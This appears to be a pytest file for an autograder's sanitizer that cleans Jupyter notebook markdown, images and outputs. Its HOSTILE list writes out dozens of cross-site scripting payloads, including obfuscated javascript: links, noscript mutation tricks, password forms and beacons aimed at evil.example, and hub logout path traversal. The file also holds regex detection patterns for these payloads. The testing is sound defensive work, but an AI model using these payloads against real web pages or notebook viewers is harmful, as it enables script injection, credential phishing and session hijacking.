"""What people look at of a submission: honest answers stay as they are; what runs or loads something goes."""

from __future__ import annotations

import base64
import json
import re
import struct

import pytest
from nbformat import from_dict

from autograder.feedback import sanitizer
from autograder.feedback.sanitizer import rendered

PNG = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + struct.pack(">II", 3, 2) + b"rest"
HUGE = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + struct.pack(">II", 100_000, 100_000) + b"rest"
HONEST = [
    "$a<b$ and $$x_{i} < y & z$$",
    "> quote\n\n> more, 5 < 6 and I <3 you",
    "```python\nif a<b: print('<script>')\n```",
    "```nolanguage\na<b\n```",
    "    <script> in indented code",
    "`a<b>` *x* **y** ~~z~~ \\* \\$5",
    "| a | b |\n|:--|--:|\n| 1 | 2 |",
    "<table><tr><td align='right'>1</td></tr></table>",
    "| a | b |\n|---|---|\n| $x<y$ | **b** |\n\nafter",
    "<table><thead><tr><th colspan='2'>a</th></tr></thead><tbody><tr><td rowspan='2'>1</td></tr></tbody></table>",
    "- [x] done\n- [ ] open\n  1. one\n  2. two",
    "<b>bold</b> <details><summary>s</summary>\n\nmore *x*\n\n</details>",
    "[a](https://example.org) <https://example.org/?a=1&b=2> [jump](#here) [file](other.ipynb)",
    "# Heading\n\nterm\n: definition\n\n---",
    "H<sub>2</sub>O<br>x<br/>y <kbd>Ctrl</kbd> <font color='red'>red</font> <center>middle</center>",
    "\\begin{align}a&<b\\\\c&=d\\end{align}",
    "```mermaid\ngraph TD; A-->B\n```",
    "![a plot](plot.png)",
    "&nbsp;&lt;x&gt; &copy; é 中",
    "",
]
HOSTILE = [
    "<script>alert(1)</script>",
    "<b onclick=alert(1)>x</b>",
    "<iframe src='//evil.example/'></iframe>",
    "<style>* {display: none}</style>",
    "<p style='position:fixed'>x",
    "![x](https://evil.example/x.png)",
    "<img src=//evil.example/x.png>",
    "<img src='plot.png' srcset='//evil.example/x 2x'>",
    "<img src='../../hub/logout.png'>",
    "<img src='/hub/logout.png'>",
    "<img src='%2e%2e/%2e%2e/hub/logout.png'>",
    "<img src='attachment:javascript.png'>",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "[x](javascript:alert(1))",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' data:text/html,<script>alert(1)</script>'>x</a>",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<form action='//evil.example/'><input type=password><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/'><base href='//evil.example/'>",
    "<object data='//evil.example/'></object><embed src='//evil.example/'>",
    "<video src='//evil.example/' poster='//evil.example/'></video>",
    "<td background='//evil.example/'>x",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "| a |\n|---|\n| ![x](//evil.example/x.png) |",
    "<table background='//evil.example/' onclick='alert(1)'><tr style='background:url(//evil.example/)'><td>1</table>",
    "<details>\n\n<script>alert(1)</script>\n\n`code`\n\n```python\nx\n\n\ny<z\n```\n$a<b$\n</details>",
    "$x$ <script>alert(1)</script>\n\n$$<script>alert(1)</script>$$\n\n<img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</div></div></div><div class='container'>",
]


@pytest.mark.parametrize("source", HONEST)
def test_an_honest_answer_stays_byte_for_byte(source: str) -> None:
    assert sanitizer.clean_markdown(source, {}) == source


@pytest.mark.parametrize("source", HOSTILE)
def test_what_runs_or_loads_something_is_gone_when_the_cell_is_shown(source: str) -> None:
    made = sanitizer.clean_markdown(source, {})
    assert made != source
    tags = "".join(re.findall(r"<[a-z/!][^>]*>", rendered(made)))
    assert not re.search(r"script|iframe|style|svg|form|button|object|embed|video|meta|base|link|evil|\bon\w+=", tags)
    assert not re.search(r"hub|data:|javascript|password|container|srcset", tags)


@pytest.mark.parametrize("source", HOSTILE)
def test_a_cleaned_cell_is_not_cleaned_again(source: str) -> None:
    made = sanitizer.clean_markdown(source, {})
    assert sanitizer.clean_markdown(made, {}) == made


def test_the_cells_of_a_hostile_table_stay_apart() -> None:
    html = rendered(sanitizer.clean_markdown("| level | senses |\n|---|---|\n| 0 | <script>x</script>two |", {}))
    assert re.findall(r"<t[hd]>(\w*)</t[hd]>", html) == ["level", "senses", "0", "two"]
    assert "script" not in html


def test_what_is_safe_in_a_hostile_cell_stays() -> None:
    page = rendered(sanitizer.clean_markdown("**Two** senses.\n\n```python\na<b\n\n\nc\n```\n\n<script>x</script>", {}))
    assert "<strong>Two</strong> senses." in page
    assert "script" not in page
    assert "\n\n\n" in page.replace("&#10;", "\n")


@pytest.mark.parametrize("source", ["[" * 30_000, "<div>" * 20_000, "> " * 20_000, "*a" * 30_000, "<b" * 30_000])
def test_a_text_that_is_nested_deeply_is_shown_all_the_same(source: str) -> None:
    assert sanitizer._is_clean(sanitizer.clean_markdown(source, {}), {})


def test_a_very_long_text_is_cut() -> None:
    assert "cut here" in sanitizer.clean_markdown("word " * 100_000, {})[-60:]


def test_a_text_that_is_shown_as_it_is_has_no_markup() -> None:
    page = rendered(sanitizer.as_plain_text("<script>x</script>\n\n</pre># no $a$ *b*"))
    assert re.findall(r"<[^>]+>", page) == ["<pre>", "</pre>"]


def encoded(data: bytes) -> str:
    return base64.encodebytes(data).decode()


@pytest.mark.parametrize(
    "source",
    [
        "![mine](attachment:a%20b.png)",
        "![mine](<attachment:a b.png>)",
        '<img src="attachment:a b.png" width="300">',
        "<img src='attachment:a%20b.png' width=300 align=left>",
        "![mine](a%20b.png)",
        "![mine][one]\n\n[one]: attachment:a%20b.png",
    ],
)
def test_a_picture_that_was_attached_stays_where_it_is_shown(source: str) -> None:
    assert sanitizer.clean_markdown(source, {"a b.png"}) == source


def test_a_text_stands_where_a_picture_is_not_shown() -> None:
    cleaned = sanitizer.clean_markdown(
        'See <img src="attachment:lost" alt="my <drawing>"> and ![it](attachment:a)', {"a"}
    )
    assert "See <em>[picture my &lt;drawing&gt;]</em> and" in cleaned
    assert '<img src="attachment:a" alt="it">' in cleaned
    assert sanitizer.clean_markdown(cleaned, {"a"}) == cleaned


def test_the_images_of_a_text_are_found_in_markdown_and_html() -> None:
    source = "![a](one.png) <img src='two.gif'>\n\n<div><img src=three.webp></div>\n\n`![](four.png)`"
    assert sanitizer.image_sources(source) == ["one.png", "two.gif", "three.webp"]


def test_pictures_of_outputs_are_what_they_say_and_small() -> None:
    assert base64.b64decode(sanitizer.safe_picture(encoded(PNG), "image/png")) == PNG
    for data in (encoded(PNG + b"\0" * sanitizer.MAX_PICTURE), encoded(HUGE), 'x" onerror="alert(1)', 3, None):
        assert sanitizer.safe_picture(data, "image/png") == ""
    assert sanitizer.safe_picture(encoded(PNG), "image/jpeg") == ""


def test_outputs_are_text_and_png_without_metadata() -> None:
    shown = {"text/html": "<script>x</script>", "text/plain": "x" * 30_000, "image/png": encoded(PNG)}
    about = {"image/png": {"width": "1 onerror=alert(1)"}}
    made = sanitizer.safe_outputs(
        [
            from_dict({"output_type": "display_data", "data": shown, "metadata": about}),
            from_dict({"output_type": "display_data", "data": {"text/html": "<script>"}, "metadata": {}}),
            from_dict({"output_type": "stream", "name": "stderr", "text": "y" * 30_000}),
            from_dict({"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["z" * 30_000]}),
        ]
    )
    assert [sorted(one.get("data", {})) for one in made] == [["image/png", "text/plain"], ["text/plain"], [], []]
    assert made[0]["metadata"] == {}
    assert len(json.dumps(made)) < 62_000
    assert "script" not in json.dumps(made)


def test_a_flood_of_outputs_is_cut() -> None:
    flood = [from_dict({"output_type": "stream", "name": "stdout", "text": "x"})] * 5000
    made = sanitizer.safe_outputs(flood)
    assert len(made) == sanitizer.MAX_OUTPUTS + 1
    assert "4900 more outputs" in made[-1]["text"]
